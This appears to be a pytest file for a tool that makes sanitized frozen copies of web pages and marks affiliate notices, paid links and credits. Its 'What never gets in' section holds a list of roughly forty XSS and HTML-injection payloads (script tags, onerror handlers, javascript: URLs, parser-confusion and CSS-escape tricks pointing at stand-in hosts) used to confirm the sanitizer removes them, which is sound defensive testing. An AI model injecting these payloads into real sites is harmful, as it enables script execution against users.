"""Copies of pages: what they show, what is marked in them, and what never gets into one."""

import re
from collections.abc import Callable, Mapping
from html.parser import HTMLParser

import pytest

from checker.facts import Page, Spot
from checker.lexicon import Lexicon
from checker.model import Source
from checker.page.cleaned import KEPT, style
from checker.page.frozen import CannotFreeze
from checker.page.frozen_marks import BY_OFFSET
from checker.page.reader import read

pytest.importorskip("nh3", reason="nh3 is not installed")

NOTICE = "We earn a commission when you buy through links on this page."
LINK = '<a href="https://www.amazon.com/dp/B000000001?tag=teablog-20">the kettle</a>'
TEXT = "The kettle boiled while the four of them argued about whether the lake would still be frozen enough to cross in March."
PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)
Freeze = Callable[..., str]


def page(*parts: str, head: str = "", body: str = "") -> str:
    inside = "\n".join(parts)
    return (
        f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Kettles</title>{head}</head><body{body}><article><h1>Kettles</h1>'
        f"<p>By Ada Quill</p>\n{inside}\n<p>{TEXT}</p></article></body></html>"
    )


@pytest.fixture(scope="session")
def freeze(lexicon: Lexicon) -> Freeze:
    def made(
        html: str | bytes,
        pointed: Callable[[Page], list[Spot | None]] = lambda _: [],
        things: Mapping[str, tuple[bytes, str | None]] | None = None,
        address: str = "https://tea.example/a/b.html",
    ) -> str:
        reading = read(Source("b.html", html.encode("utf-8", "surrogatepass") if isinstance(html, str) else html), lexicon)
        return reading.freeze(reading.page, pointed(reading.page), address, (things or {}).get)

    return made


class Seen(HTMLParser):
    """All tags with their attributes, and the text, as another parser sees them."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.open: list[tuple[str, str | None]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def by_id(self, name: str) -> tuple[str, dict[str, str | None]]:
        found = [each for each in self.tags if each[1].get("id") == f"disclosure-checker-{name}"]
        assert len(found) == 1, (name, found)
        return found[0]

    def classes(self, name: str) -> set[str]:
        return {each.removeprefix("disclosure-checker-") for each in (self.by_id(name)[1]["class"] or "").split()}


def text_of(markup: str, name: str) -> str:
    """What stands in the elements with a class of ours, without labels."""
    found = re.findall(rf'<span class="[^"]*disclosure-checker-{name}[ "][^>]*>((?:<span[^>]*>[^<]*</span>)*)([^<]*)</span>', markup)
    return " ".join(" ".join(part[1] for part in found).split())


# What is marked ----------------------------------------------------------------------------------------------------------------------------
def test_facts_are_marked_where_they_stand(freeze: Freeze) -> None:
    image = '<figure><img src="/kettle.jpg" alt="A kettle" width="600" height="400"><figcaption>Photo: Bea Lens/Reuters</figcaption></figure>'
    found = freeze(page(f"<p>{NOTICE}</p>", f"<p>Get {LINK}.</p>", image))
    seen = Seen(found)
    assert seen.by_id("notice-1")[0] == "span"
    assert text_of(found, "notice") == NOTICE
    assert seen.by_id("link-1")[0] == "a"
    assert seen.classes("link-1") == {"mark", "link"}
    assert text_of(found, "author") == "Ada Quill"
    assert seen.classes("image-1") == {"absent", "mark", "image"}
    assert seen.by_id("credit-1")[0] == "figcaption"
    for label in ("Notice 1", "Paid link 1", "Byline 1", "Picture 1", "Credit 1"):
        assert f">{label}</span>" in found


def test_a_notice_over_several_elements_is_marked_to_its_end(freeze: Freeze) -> None:
    found = freeze(
        page("<p>Hello. <em>We earn&nbsp;a <b>commission</b></em> when you buy &amp; pay through links on this page. Thanks.</p>", f"<p>{LINK}</p>")
    )
    marked = text_of(found, "notice").replace("\xa0", " ").replace("&nbsp;", " ")
    assert marked.startswith("We earn a commission when you buy &amp; pay")
    assert "Hello" not in marked
    assert "Thanks" not in marked


def test_findings_carry_a_number_and_an_anchor(freeze: Freeze) -> None:
    def pointed(found: Page) -> list[Spot | None]:
        return [found.links[0].spot, None, found.notices[0].spot]

    found = freeze(page(f"<p>Get {LINK}.</p>", f"<p>{NOTICE}</p>"), pointed)
    seen = Seen(found)
    assert [seen.by_id(f"finding-{number}")[0] for number in (1, 2, 3)] == ["span", "span", "span"]
    assert re.search(r'<a [^>]*><span [^>]*id="disclosure-checker-finding-1">1</span>', found)
    assert found.index('id="disclosure-checker-finding-2"') < found.index("<h1>")
    assert "about the page as a whole" in found
    assert found.index('id="disclosure-checker-finding-3"') < found.index("We earn a commission")


def test_a_place_known_by_its_offset_alone_is_the_same(freeze: Freeze) -> None:
    html = page(f"<p>One <i>two</i> &amp; {NOTICE}</p>", f"<p>Get {LINK}.</p>", "<p>By <b>Ada Quill</b></p>")

    def by_node(found: Page) -> list[Spot | None]:
        return [found.links[0].spot, found.notices[0].spot]

    def by_offset(_: Page) -> list[Spot | None]:
        return [Spot(BY_OFFSET, offset=html.index("<a href")), Spot(BY_OFFSET, offset=html.index("One <i>"))]

    assert freeze(html, by_node) == freeze(html, by_offset)
    assert freeze(html, lambda _: [Spot(BY_OFFSET, offset=10**9), Spot(BY_OFFSET)]).count("about the page as a whole") == 2


@pytest.mark.parametrize(
    ("markup", "why"),
    [
        (f'<div style="display:none"><p>{NOTICE}</p></div>', "not seen (style)"),
        (f"<noscript><p>{NOTICE}</p></noscript>", "not seen (noscript)"),
        (f"<!-- {NOTICE} -->", "not seen (comment)"),
        (f"<template><p>{NOTICE}</p></template>", "not seen (template)"),
        (f"<details><summary>More</summary><p>{NOTICE}</p></details>", "not seen (details)"),
    ],
)
def test_what_readers_do_not_see_is_told_in_a_box(freeze: Freeze, markup: str, why: str) -> None:
    found = freeze(page(f"<p>Get {LINK}.</p>", markup))
    assert f"{why}: “{NOTICE}”" in found
    assert {"box", "notice"} <= Seen(found).classes("notice-1")


def test_a_paid_frame_is_told_in_a_box(freeze: Freeze) -> None:
    found = freeze(page('<iframe src="https://ws-na.amazon-adsystem.com/widgets/q?tag=teablog-20"></iframe>'))
    assert "not seen (iframe)" in found
    assert "<iframe" not in found


def test_our_names_are_ours(freeze: Freeze) -> None:
    fake = (
        '<p id="disclosure-checker-notice-1" class="x disclosure-checker-notice" data-disclosure-checker-a="1">Nothing to see</p>'
        "<style>.disclosure-checker-label{display:none!important}</style>"
    )
    found = freeze(page(fake, f"<p>{NOTICE}</p>", f"<p>{LINK}</p>", body=' class="disclosure-checker-mark home" id="disclosure-checker-link-1"'))
    seen = Seen(found)
    assert seen.by_id("notice-1")[0] == "span"
    assert '<p class="x">Nothing to see</p>' in found
    assert 'class="home"' in found
    assert ".disclosure-checker-label{display:none!important}" not in found


def test_an_id_of_the_page_stays(freeze: Freeze) -> None:
    found = freeze(page(f"<p>{NOTICE}</p>", '<p><a id="buy" href="https://www.amazon.com/dp/B1?tag=teablog-20">it</a></p>'))
    assert re.search(r'<a [^>]*id="buy"[^>]*><span class="[^"]*" id="disclosure-checker-link-1">Paid link 1</span>', found)


def test_links_lead_nowhere_and_say_where_they_led(freeze: Freeze) -> None:
    found = freeze(page(f"<p>{LINK}</p>", '<p><a href="/more" target="_top" ping="https://x.example/">more</a></p>'))
    assert "href=" not in found
    assert 'title="https://www.amazon.com/dp/B000000001?tag=teablog-20"' in found
    assert 'title="/more"' in found


# How it looks ------------------------------------------------------------------------------------------------------------------------------
def test_styles_stay_in_their_order_and_ask_for_nothing(freeze: Freeze) -> None:
    head = (
        '<link rel="stylesheet" href="../site.css?v=3" media="screen and (min-width: 20em)"><style>h1{color:red}</style>'
        '<link rel="stylesheet" href="https://cdn.example/gone.css"><link rel=preload as=style href=/late.css onload="this.rel=1">'
        '<link rel="alternate stylesheet" href="/site.css">'
    )
    site = (
        b'@import url("x.css"); @font-face{font-family:A;src:url(a.woff)} p{background:url(https://x.example/a.png) red}'
        b' i{background:url("data:image/png;base64,AA")}'
    )
    things = {"https://tea.example/site.css?v=3": (site, "text/css"), "https://tea.example/late.css": (b"b{top:0} a</style><script>", None)}
    found = freeze(page(head=head), things=things)
    rules = '@of-the-page-import none;  p{background:none red} i{background:url("data:image/png;base64,AA")}'
    assert f'<style media="screen and (min-width: 20em)">{rules}</style>' in found
    assert found.index("p{background") < found.index("h1{color:red}") < found.index("b{top:0}")
    assert "b{top:0} a<\\/style><script></style>" in found
    assert "1 style sheet is missing" in found
    assert "@of-the-page-import" in found
    assert "@font-face" not in found


def test_small_pictures_beside_the_page_stand_in_it(freeze: Freeze) -> None:
    things: dict[str, tuple[bytes, str | None]] = {
        "https://tea.example/a/small.png": (PNG, "image/png"),
        "https://tea.example/a/large.png": (PNG + bytes(200_000), "image/png"),
        "https://tea.example/a/page.png": (b"<html><script>1</script>", "image/png"),
        "https://tea.example/a/drawn.svg": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", "image/svg+xml"),
    }
    names = ("small.png", "large.png", "page.png", "drawn.svg", "absent.png")
    images = "".join(f'<img src="{name}" srcset="https://x.example/2.png 2x" alt="As {name}" width=300 height=200>' for name in names)
    lazy = '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="small.png" alt="As lazy">'
    lazy += '<img src="https://x.example/p.gif" width=1 height=1>'
    found = freeze(page(images, lazy), things=things)
    seen = Seen(found)
    sources = [attrs.get("src") or "" for tag, attrs in seen.tags if tag == "img"]
    assert [source.partition(",")[0] for source in sources] == ["data:image/png;base64", "data:image/svg+xml;base64", "data:image/png;base64"]
    assert sources[0] == sources[2]
    assert "As large.png" in "".join(seen.texts)
    assert found.count("disclosure-checker-absent") - found.count(".disclosure-checker-absent") == 3
    assert "x.example" not in found


def test_pictures_are_bounded_in_sum(freeze: Freeze) -> None:
    things = {f"https://tea.example/a/{number}.png": (PNG + bytes(60_000), None) for number in range(20)}
    found = freeze(page("".join(f'<img src="{number}.png" alt="x">' for number in range(20))), things=dict(things))
    assert found.count("<img") == 3
    assert len(found) < 350_000


def test_the_frame_of_the_page_is_carried_over(freeze: Freeze) -> None:
    html = page(body=' class="dark home" dir="rtl" style="margin:0;opacity:0" onload="x()"').replace(
        '<html lang="en">', '<html lang="ar" class="no-js" id=r>'
    )
    found = freeze(html)
    assert found.startswith('<!doctype html>\n<html lang="ar" id="r" class="no-js" style="display:block!important;')
    assert '<body dir="rtl" class="dark home" style="margin:0;opacity:0;display:block!important;' in found
    assert found.index("Content-Security-Policy") < found.index("charset") < found.index("<title>")
    assert freeze(page().removeprefix("<!doctype html>")).startswith("<html")


# What never gets in ------------------------------------------------------------------------------------------------------------------------
HOSTILE = [
    "<script>x()</script>",
    "<script src=//x.example/a.js></script >",
    "<sCrIpT\n>x()</script\t>",
    "<img src=x onerror=x()>",
    '<img src="https://x.example/a.png" srcset="https://x.example/b.png 2x" lowsrc=//x.example/c>',
    "<img src='javascript:x()' dynsrc=//x.example/d>",
    "<body onload=x()><body background=//x.example/e>",
    "<svg onload=x()><script>x()</script><a xlink:href=javascript:x()><text>in</text></a></svg>",
    "<svg><style><img src=x onerror=x()></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=x()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x()&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>x()</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=x()>'></textarea>",
    "<title></title><img src=x onerror=x()></title>",
    "<template><script>x()</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=x()>'></xmp>",
    "<noembed><img title='</noembed><script>x()</script>'></noembed>",
    "<iframe srcdoc='<script>x()</script>' src=//x.example/></iframe>",
    "<object data=//x.example/o><embed src=//x.example/p><param name=x value=//x.example/></object>",
    "<applet code=x archive=//x.example/></applet><portal src=//x.example/></portal>",
    "<base href=//x.example/><link rel=stylesheet href=//x.example/a.css><link rel=dns-prefetch href=//x.example>",
    "<meta http-equiv=refresh content='0;url=//x.example/'><meta http-equiv=Set-Cookie content=a=b>",
    "<form action=//x.example/><input type=image src=//x.example/i formaction=javascript:x()><button formaction=//x.example/>go</button></form>",
    "<a href=javascript:x()>a</a><a href=' jAvaScript\n:x()'>b</a><a href='&#1;javascript:x()'>c</a><a href=vbscript:x()>d</a>",
    "<a href='data:text/html,<script>x()</script>'>e</a><area href=javascript:x()>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='><img src='data:image/svg+xml;charset=x'><img src=' data:text/html,x'>",
    "<video poster=//x.example/v src=//x.example/w><source src=//x.example/><track src=//x.example/></video><audio src=//x.example/ autoplay>",
    "<style>@import '//x.example/a.css'; p{background:url(//x.example/b)} </style><style>a{}</style><script>x()</script>",
    "<p style='background:url(//x.example/s);behavior:url(x.htc);-moz-binding:url(//x.example/x)'>s</p>",
    "<div style=\"background:\\75rl('javascript:x()')\">t</div>",
    "<input onfocus=x() autofocus><select onfocus=x()><option>o</select><keygen autofocus onfocus=x()>",
    "<details open ontoggle=x()><summary>s</summary></details><marquee onstart=x()>m</marquee>",
    "<blockquote cite=javascript:x()><q cite=//x.example/>q</q><ins cite=//x.example/>i</ins>",
    "<table background=//x.example/t><td background=//x.example/t2>cell</table>",
    "<p title='\"><script>x()</script>'>quoted</p><p title=\"'><img src=x onerror=x()>\">q2</p>",
    "<<script>x()//<</script>",
    "<!--><img src=x onerror=x()>--><!--!><img src=x onerror=x()>--!><![CDATA[<script>x()</script>]]><?x <script>x()</script>?>",
    "<a \x00href=javascript:x()>nul</a><img/src=x/onerror=x()><p\x0conclick=x()>ff</p>",
    "<custom-tag onclick=x() style='x'>c</custom-tag><p is=x-y slot=a part=b popovertarget=z contenteditable nonce=1>attr</p>",
    "<plaintext><script>x()</script>",
]


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("place", ["inside", "head", "link"])
def test_what_runs_asks_or_leads_away_is_left_out(freeze: Freeze, hostile: str, place: str) -> None:
    if place == "inside":
        html = page(f"<p>{NOTICE}</p>", hostile, f"<p>{LINK}</p>")
    elif place == "head":
        html = page(f"<p>{NOTICE}</p>", f"<p>{LINK}</p>", head=hostile)
    else:
        html = page(f"<p>{NOTICE[:20]}{hostile}{NOTICE[20:]}</p>", LINK.replace("kettle", f"{hostile} kettle"))
    harmless(freeze(html, lambda found: [each.spot for each in (*found.links, *found.notices, *found.authors)]))


def harmless(found: str) -> None:
    """Nothing in it runs, asks, sends, or leads away."""
    head, _, body = found.partition("</head>")
    seen = Seen(found)
    assert [tag for tag, _ in seen.tags[:3]] == ["html", "head", "meta"]
    assert dict(seen.tags[2][1])["http-equiv"] == "Content-Security-Policy"
    assert [tag for tag, _ in seen.tags if tag not in KEPT and tag not in ("html", "head", "meta", "title", "style", "body")] == []
    assert not re.search(r"<(?:style|meta|title|html|body|script)\b", body.removeprefix("\n<body"), re.IGNORECASE)
    assert head.count("http-equiv") == 1
    for tag, attrs in seen.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, attrs)
            assert name not in {"href", "srcset", "poster", "ping", "background", "action", "formaction", "cite", "data", "srcdoc", "nonce", "is"}
            if name == "src":
                assert (value or "").startswith("data:image/"), value
            if name == "style":
                assert "//x.example" not in (value or "")


def test_the_page_cannot_pretend_to_be_a_mark(freeze: Freeze) -> None:
    found = freeze(page("<!--dc-0:0--><p data-dc-0='0' data-dc-0123456789abcdef='1'>a</p>", f"<p>{NOTICE}</p>", f"<p>{LINK}</p>"))
    assert "<!--" not in found
    harmless(found)


@pytest.mark.parametrize("text", ["\u202egnp.exe", "\x07\x1b[31m", "\ud800", "\ufffe", "𝕏" * 3, "e\u0301\u00ad\u200b"])
def test_odd_characters_do_no_harm(freeze: Freeze, text: str) -> None:
    html = page(f"<p>{NOTICE} {text}</p>", f'<p title="{text}">{LINK}</p>', head=f"<style>/*{text}*/</style>", body=f' class="{text}"')
    found = freeze(html.encode("utf-8", "replace"))
    harmless(found)
    assert found.encode("utf-8")


def test_a_title_of_a_megabyte(freeze: Freeze) -> None:
    html = page(f"<p>{NOTICE}</p>", f"<p>{LINK}</p>").replace("<title>Kettles", "<title>" + "x</titl>" * 125_000)
    harmless(freeze(html))


def test_what_would_take_too_long_is_refused(freeze: Freeze) -> None:
    with pytest.raises(CannotFreeze, match="too large"):
        freeze(page("<p>a" * 100_001))


def test_formatting_that_is_left_open_is_not_opened_again_without_end(freeze: Freeze) -> None:
    many = "".join(f"<b id=b{number}>" for number in range(300))
    with pytest.raises(CannotFreeze, match="left open"):
        freeze(page(f"<div>{many}</div>" + "<p>x</p>" * 1500))
    assert "<p>" in freeze(page("<p><b>bold<p>more</p>" * 20))


@pytest.mark.parametrize("start", ["<!---->" * 40, " <?x?>" * 500, "<!--a-->" * 400 + "<!"])
def test_how_a_page_begins_costs_no_time(freeze: Freeze, start: str) -> None:
    assert "<h1" in freeze(start + page("<p>Tea.</p>").removeprefix("<!doctype html>"))


@pytest.mark.parametrize(
    "css",
    [
        r"a{background:ur\6\63 (//evil.example/a.png)}", r"a{background:\75\72\6c(//evil.example/a.png)}", r"@i\6\64 port '//evil.example/a.css';",
        r".disc\6\63 osure-checker-finding{display:none}",
    ],
)  # fmt: skip
def test_an_escape_that_makes_an_escape_is_read_too(css: str) -> None:
    written = style(css)
    again = re.sub(r"\\([0-9a-f]{1,6}) ?", lambda found: chr(int(found[1], 16)), written).lower()
    assert "url(" not in again
    assert "@import" not in again
    assert "disclosure-checker" not in again


def test_white_space_in_style_rules_costs_no_time() -> None:
    assert "b:url(" not in style("a{b:url(" + " " * 300_000)


def test_the_same_page_gives_the_same_copy(freeze: Freeze) -> None:
    html = page(f"<p>{NOTICE}</p>", f"<p>{LINK}</p>", "<noscript>x</noscript>")
    assert freeze(html) == freeze(html)
